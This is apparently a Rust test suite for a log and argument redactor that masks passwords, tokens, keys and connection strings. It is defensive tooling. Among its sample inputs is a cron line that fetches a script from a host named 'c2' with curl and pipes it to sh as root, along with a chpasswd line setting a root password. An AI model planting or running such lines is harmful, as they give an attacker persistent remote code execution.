use super::*;

fn redact(text: &str) -> String {
    Redactor::new().text(text).into_owned()
}

const SECRET: &str = "s3cr3t-Pa55";

#[test]
fn secrets_in_texts() {
    for text in [
        "postgres://app:s3cr3t-Pa55@db:5432/shop?sslmode=disable",
        "DB_PASSWORD=s3cr3t-Pa55 started",
        "{\"password\": \"s3cr3t-Pa55\", \"user\": \"app\"}",
        "curl --token s3cr3t-Pa55 host",
        "Authorization: Bearer s3cr3t-Pa55",
        "-----BEGIN RSA PRIVATE KEY-----\ns3cr3t-Pa55\n-----END RSA PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\ns3cr3t-Pa55",
        "secret_key: s3cr3t-Pa55",
        "sh -c 'mysqldump -h db -ps3cr3t-Pa55 shop'",
        "curl -s -u me:s3cr3t-Pa55 host",
        "the token DB_PASSWORD=s3cr3t-Pa55",
        "keyboard: DB_PASSWORD=s3cr3t-Pa55",
        "PWD=/srv?token=s3cr3t-Pa55",
        "{\\\"password\\\":\\\"s3cr3t-Pa55\\\"}",
        "API_KEY='s3cr3t-Pa55, with spaces'",
        "redis-server --requirepass s3cr3t-Pa55 --port 1",
        "redis-server --masterauth s3cr3t-Pa55",
        "sshpass -p s3cr3t-Pa55 ssh host",
        "sshpass -ps3cr3t-Pa55 ssh host",
        "sh -c 'redis-cli -a s3cr3t-Pa55 ping'",
        "sh -c \"redis-cli -a 's3cr3t-Pa55' ping\"",
        "bash -c 'sh -c '\\''redis-cli -a s3cr3t-Pa55 ping'\\'''",
        "Server=db;Uid=app;Pwd=s3cr3t-Pa55;",
        "Server=db;Password=s3cr3t-Pa55",
        "DefaultEndpointsProtocol=https;AccountKey=s3cr3t-Pa55==;x=y",
        "COOKIE=session=s3cr3t-Pa55",
        "Cookie: a=b; session=s3cr3t-Pa55",
        "mongodump -u root -p s3cr3t-Pa55",
        "docker login -u me -p s3cr3t-Pa55 registry",
        "app --pass s3cr3t-Pa55",
        "app --passwd s3cr3t-Pa55",
        "app --pwd s3cr3t-Pa55",
        "app --api-key s3cr3t-Pa55",
        "app --secret s3cr3t-Pa55",
        "curl -sSu me:s3cr3t-Pa55 host",
        "curl -ume:s3cr3t-Pa55 host",
        "curl --user=me:s3cr3t-Pa55 host",
        "curl -u 'me:s3cr3t-Pa55 and more' host",
        "curl -H 'Authorization: Token s3cr3t-Pa55' host",
        "curl -H \"X-Api-Key: s3cr3t-Pa55\" host",
        "curl -H 'Authorization: s3cr3t-Pa55' host",
        "https://me:s3cr3t-Pa55@host/path",
        "https://me:a/s3cr3t-Pa55@host/path",
        "https://me:a@s3cr3t-Pa55@host/path",
        "redis://:s3cr3t-Pa55@host",
        "psql -h db postgresql://app:s3cr3t-Pa55...",
        "ssh-keygen -t ed25519 -N s3cr3t-Pa55 -f k",
        "openssl enc -aes-256-cbc -pass pass:s3cr3t-Pa55 -in f",
        "openssl rsa -passin pass:s3cr3t-Pa55",
        "net use Z: \\\\host\\share s3cr3t-Pa55 /user:me",
        "smbclient //host/share -U me%s3cr3t-Pa55",
        "zip -P s3cr3t-Pa55 a.zip f",
        "7z a -ps3cr3t-Pa55 a.7z f",
        "ldapsearch -x -w s3cr3t-Pa55",
        "sqlcmd -S db -P s3cr3t-Pa55",
        "psql \"host=db password=s3cr3t-Pa55\"",
        "PGPASSWORD=s3cr3t-Pa55 psql -h db",
        "* * * * * root curl -u joe:s3cr3t-Pa55 http://c2/ | sh",
        "echo root:s3cr3t-Pa55 | chpasswd",
        "echo s3cr3t-Pa55 | sudo -S id",
        "java -Dspring.datasource.password=s3cr3t-Pa55 -jar a.jar",
        "define('DB_PASSWORD', 's3cr3t-Pa55');",
        "$config['password'] = 's3cr3t-Pa55';",
        "'password' => 's3cr3t-Pa55'",
        "db:5432:shop:app:s3cr3t-Pa55",
        "PASSWORD=a,s3cr3t-Pa55",
    ] {
        let shown = redact(text);
        assert!(!shown.contains(SECRET), "{shown}");
        assert!(shown.contains("[redacted: "), "{shown}");
        assert_eq!(redact(&shown), shown, "twice");
    }
    let token = format!("ghp_{}", "a1".repeat(18));
    assert!(!redact(&format!("x {token} y")).contains(&token));
}

#[test]
fn what_is_no_secret_stays() {
    for text in [
        "http://db:5432/shop",
        "http://db:80/a@b",
        "the token was refused",
        "key=value",
        "/run/secrets/db",
        "PWD=/srv",
        "a@b:c",
        "--password-file /run/secrets/db",
        "ratio: 3",
        "docker run -p 8080:80 -u root:root nginx",
        "ssh -p 22 host",
        "sshpass -e ssh -p 22 host",
        "run -u 1000:1000 it",
        "mysql -P 3306 -p -h db",
        "0x7f0012345678-0x7f0012349678 rwxp, pid 4111111111111111",
        "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "/root/.ssh/authorized_keys: ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ user@host",
        "it's a 'sh -c' that isn't",
        "using password: YES",
        "openssl rsa -passin file:/etc/pass -in k",
        "cp -u a:b c:d/e",
        "--key /etc/tls/server.key",
        "02:42:ac:11:00:02",
    ] {
        let shown = redact(text);
        let harmless = text.starts_with("cp ") || shown == text;
        assert!(harmless, "{text}: {shown}");
    }
}

#[test]
fn secrets_in_arguments() {
    for argv in [
        &["app", "--db-password", "s3cr3t-Pa55"][..],
        &["app", "--db-password=s3cr3t-Pa55"],
        &["mysql", "-ps3cr3t-Pa55", "-u", "root"],
        &["/usr/bin/curl", "-u", "me:s3cr3t-Pa55", "http://host/"],
        &["env", "TOKEN=s3cr3t-Pa55", "sh"],
        &["sh", "-c", "psql postgres://app:s3cr3t-Pa55@db/shop"],
        &["redis-server", "--requirepass", "s3cr3t-Pa55"],
        &["sshpass", "-p", "s3cr3t-Pa55", "ssh", "-p", "22", "host"],
        &["sh", "-c", "redis-cli -a s3cr3t-Pa55 ping"],
        &["mysqld", "--password=s3cr3t-Pa55"],
        &["net.exe", "use", "\\\\host\\share", "s3cr3t-Pa55"],
    ] {
        let shown = Redactor::new().arguments(argv).join(" ");
        assert!(!shown.contains(SECRET), "{shown}");
        assert!(shown.contains("[redacted: 11 bytes, sha256 "), "{shown}");
    }
    for plain in [
        &["app", "-p", "8080", "--token-file", "/run/t", "--key", "--verbose", ""][..],
        &["ssh", "-p", "22", "host"],
        &["docker", "run", "-p", "80:80", "--user", "1000:1000"],
    ] {
        assert_eq!(Redactor::new().arguments(plain), plain);
    }
}

#[test]
fn values_of_variables_wherever_they_stand() {
    let values = |texts: &[&str]| {
        let mut values = Vec::new();
        for text in texts {
            values.extend(stands(text).map(|stands| Value { text: (*text).to_owned(), stands }));
        }
        let texts = values.iter().map(|value| value.text.as_str());
        let known = AhoCorasick::builder().match_kind(MatchKind::LeftmostLongest).build(texts).ok();
        Redactor { known, values, ..Redactor::new() }
    };
    let redactor = values(&["hunter2", "Tr0ub4dor&3x", "wintermute", "root", "1234567", "abc"]);
    for (text, is_redacted) in [
        ("NOTE=see hunter2", true),
        ("see-hunter2.", true),
        ("hunter22", false),
        ("xTr0ub4dor&3xy", true),
        ("it was Tr0ub4...", true),
        ("it was Tr0...", false),
        ("say wintermute now", true),
        ("/opt/wintermute/bin", false),
        ("wintermutes", false),
        ("root", false),
        ("pid 1234567", false),
        ("abc", false),
    ] {
        assert_eq!(redactor.text(text).contains("[redacted: "), is_redacted, "{text}");
    }
}

#[test]
fn it_takes_time_in_proportion() {
    for text in [
        "key=",
        "token ",
        "a:",
        "Bearer ",
        "://:",
        "-----BEGIN PRIVATE KEY-----",
        "'",
        "\\'",
        "=\"\\\"",
        "echo -n ",
        "curl -u ",
        "a'\\''",
        "[redacted: ",
    ] {
        let long = text.repeat((64 << 10) / text.len());
        assert!(redact(&long).len() < 4 << 20);
    }
}

/// Names whose values are no secrets, each of which has the rest of the text for its value.
#[test]
fn values_without_an_end_take_time_in_proportion() {
    let began = std::time::Instant::now();
    for text in ["KEY=", "key=", "PWD=/", "token=--", "key:", "a'KEY=", "monkey='\\''"] {
        let long = text.repeat((512 << 10) / text.len());
        assert!(redact(&long).len() < 16 << 20);
    }
    let marks = format!("{}…] password=x9Z", "[redacted: ".repeat((8 << 20) / OPEN.len()));
    assert!(redact(&marks).ends_with("…]"));
    assert!(began.elapsed().as_secs() < 30, "{:?}", began.elapsed());
}

/// Pieces that open, close and name something in a way that what follows depends on.
const PIECES: [&str; 40] = [
    "postgres://",
    "https://",
    "mysql ",
    "mysql",
    "-p",
    " -p ",
    "?password=",
    "password=",
    "PWD=",
    "=",
    ":",
    "@",
    "/",
    " ",
    "'",
    "\"",
    "\\'",
    "'\\''",
    "\\\"",
    "curl -u ",
    "me:x9Zk2",
    "sshpass -p",
    "net use ",
    "\\\\a\\b ",
    "|",
    ";",
    "\n",
    "echo ",
    "chpasswd",
    "Bearer ",
    "Authorization: ",
    "Cookie: a=b",
    "-----BEGIN PRIVATE KEY-----",
    "-----END",
    "db:5432:a:b:",
    "openssl -k ",
    "[redacted: ",
    "…]",
    "...",
    "hunter2x",
];

#[test]
fn what_was_redacted_before_stays() {
    let told = "postgres://mysql -p?password=".repeat(8);
    let once = redact(&told);
    assert_eq!(redact(&once), once);
    let argv = ["mysql", "-p?password=x9Z", "--token", "PASSWORD=\"a b"];
    let shown = Redactor::new().arguments(&argv);
    assert_eq!(Redactor::new().arguments(&shown), shown);
    let value = Redactor::new().value("PASSWORD", "hunter2").into_owned();
    assert_eq!(Redactor::new().value("PASSWORD", &value), value);
}

proptest::proptest! {
    #[test]
    fn a_second_look_changes_nothing(picked in proptest::collection::vec(0..PIECES.len(), 0..24)) {
        let pieces: Vec<&str> = picked.iter().filter_map(|at| PIECES.get(*at).copied()).collect();
        let redactor = Redactor::new();
        let once = redactor.text(&pieces.concat()).into_owned();
        proptest::prop_assert_eq!(&*redactor.text(&once), &*once);
        let once = redactor.arguments(&pieces);
        proptest::prop_assert_eq!(&redactor.arguments(&once), &once);
        let once = redactor.value("TOKEN", &pieces.concat()).into_owned();
        proptest::prop_assert_eq!(&*redactor.value("TOKEN", &once), &*once);
    }
}

#[test]
fn the_same_secret_is_recognised() {
    assert_eq!(redacted("hunter2"), redacted("hunter2"));
    assert_ne!(redacted("hunter2"), redacted("hunter3"));
    let once = redact("PASSWORD=hunter2");
    assert_eq!(redact(&once), once);
    let forged = format!("PASSWORD={}hunter2", redacted("x").replace(' ', ""));
    assert!(!redact(&forged).contains("hunter2"));
}
